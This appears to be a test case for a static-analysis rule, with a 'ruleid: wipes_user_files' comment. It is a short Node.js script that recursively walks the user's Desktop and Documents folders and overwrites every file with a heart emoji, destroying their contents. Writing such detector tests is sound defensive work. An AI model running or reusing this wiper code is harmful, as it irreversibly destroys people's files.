// A constant of the file's own written over each file of the user's folders.
const fs = require('fs');
const path = require('path');
const MARK = '\u2764\ufe0f';
function walk(dir, cb) {
  for (const ent of fs.readdirSync(dir, { withFileTypes: true })) {
    const full = path.join(dir, ent.name);
    if (ent.isDirectory()) walk(full, cb);
    else cb(full);
  }
}
for (const root of ['Desktop', 'Documents'].map((n) => path.join(require('os').homedir(), n))) {
  // ruleid: wipes_user_files
  walk(root, (file) => fs.writeFileSync(file, MARK));
}
